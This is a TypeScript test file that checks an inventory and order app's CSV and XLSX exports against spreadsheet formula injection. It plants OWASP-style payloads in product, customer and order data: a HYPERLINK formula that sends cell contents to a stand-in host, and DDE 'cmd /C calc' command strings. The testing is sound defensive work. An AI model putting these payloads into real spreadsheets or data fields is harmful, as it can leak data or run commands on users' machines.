import ExcelJS from "exceljs";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, inject, it, vi } from "vitest";
import { GET as inventoryExport } from "@/app/(dashboard)/inventory/export/route";
import { GET as entityExport } from "@/app/api/export/[entity]/route";
import { GET as ordersExport } from "@/app/api/orders/export/route";
import { createAccount } from "@/server/services/channels/accounts";
import { saveSkuMapping } from "@/server/services/channels/mappings";
import { createOrder } from "@/server/services/orders/create-order";
import { formulaSafe, readTable } from "@/server/services/_lib/tabular";
import { closeTestDb, newApiKey, sessionCaller } from "../helpers/db";
import { orderMerchant, simpleOrder } from "../integration/orders-fixtures";

// next-auth cannot load outside Next; the export routes are called with API keys.
vi.mock("@/server/auth", () => ({ auth: async () => null }));

beforeAll(() => {
  process.env.DATABASE_URL ??= inject("databaseUrl");
});
afterAll(closeTestDb);

/** Values a spreadsheet would run as a formula (OWASP CSV injection), one per trigger character. */
const EVIL = {
  eq: '=HYPERLINK("http://evil.test/?x="&A1,"点我")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: "\t=1+1",
  cr: "\r=1+1",
};

/** Every cell of a CSV or XLSX file, as text. */
async function cellsOf(format: "csv" | "xlsx", body: Buffer): Promise<string[]> {
  if (format === "csv") {
    return Papa.parse<string[]>(body.toString("utf8").replace(/^\uFEFF/, ""), {
      skipEmptyLines: true,
    }).data.flat();
  }
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  const out: string[] = [];
  wb.worksheets[0]!.eachRow((row) =>
    row.eachCell((cell) => {
      // A formula cell is the worst case: report it so the assertion below names it.
      if (cell.type === ExcelJS.ValueType.Formula) out.push(`=FORMULA:${cell.formula}`);
      else out.push(String(cell.value ?? ""));
    }),
  );
  return out;
}

/** No cell starts with a trigger; each planted value appears neutralized (prefixed with '). */
function expectNeutralized(cells: string[], planted: string[]) {
  const dangerous = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[-+]?\d+(\.\d+)?$/.test(c));
  expect(dangerous, "cells a spreadsheet would evaluate").toEqual([]);
  for (const p of planted) expect(cells, `planted ${JSON.stringify(p)}`).toContain(`'${p}`);
}

async function evilMerchant() {
  const m = await orderMerchant();
  const owner = sessionCaller(m.org.ownerId, m.org.orgId);
  await owner.products.create({ sku: "EVIL-1", name: EVIL.eq, spec: EVIL.at, unit: "件", price: "1" });
  await owner.customers.create({
    clientNum: "EVIL-C1",
    companyName: EVIL.plus,
    contactName: EVIL.minus,
    addresses: [{ recipient: EVIL.at, phone: "138", province: "浙江省", city: "杭州市", street: EVIL.eq }],
  });
  const account = await createAccount(m.ctx, {
    platform: "amazon",
    alias: EVIL.minus,
    shopDomain: "",
    useSimulator: true,
    pullMode: "manual",
    pullIntervalMinutes: 15,
    importEnabled: true,
    settings: {},
  });
  await saveSkuMapping(m.ctx, {
    accountId: account!.id,
    platformSku: EVIL.at,
    items: [{ sku: "EVIL-1", quantity: "1" }],
  });
  const order = await createOrder(m.ctx, simpleOrder({ remark: EVIL.eq }));
  return { ...m, order, key: await newApiKey(m.org, "viewer") };
}

describe("CSV/XLSX formula injection (finding 10)", () => {
  it("formulaSafe prefixes every trigger, leaves plain numbers and ordinary text alone, and the importer reads its own output back", async () => {
    for (const v of Object.values(EVIL)) expect(formulaSafe(v)).toBe(`'${v}`);
    for (const v of ["-12.5", "+3", "10", "纯棉T恤", "a=b", ""]) expect(formulaSafe(v)).toBe(v);
    const { rows } = await readTable("csv", Buffer.from(`name\n"'=1+1"\n"'-x"\n`), [
      { key: "name", header: "name" },
    ]);
    expect(rows.map((r) => r.name)).toEqual(["=1+1", "-x"]);
  });

  for (const format of ["csv", "xlsx"] as const) {
    it(`every export route neutralizes formula cells (${format})`, async () => {
      const m = await evilMerchant();
      const auth = { headers: { authorization: `Bearer ${m.key}` } };
      const entity = (e: string) =>
        entityExport(new Request(`http://test.local/api/export/${e}?format=${format}`, auth), {
          params: Promise.resolve({ entity: e }),
        });
      const bodies: Record<string, Response> = {
        products: await entity("products"),
        customers: await entity("customers"),
        skuMappings: await entity("sku-mappings"),
        orders: await ordersExport(
          new Request(`http://test.local/api/orders/export?format=${format}&nos=${m.order.orderNo}`, auth),
        ),
        stock: await inventoryExport(
          new Request(`http://test.local/inventory/export?format=${format}&includeUnstocked=1`, auth),
        ),
      };
      const planted: Record<string, string[]> = {
        products: [EVIL.eq, EVIL.at],
        customers: [EVIL.plus, EVIL.minus, EVIL.at, EVIL.eq],
        skuMappings: [EVIL.minus, EVIL.at],
        orders: [EVIL.eq],
        stock: [EVIL.eq, EVIL.at],
      };
      for (const [name, res] of Object.entries(bodies)) {
        expect(res.status, name).toBe(200);
        expectNeutralized(await cellsOf(format, Buffer.from(await res.arrayBuffer())), planted[name]!);
      }
    });
  }
});
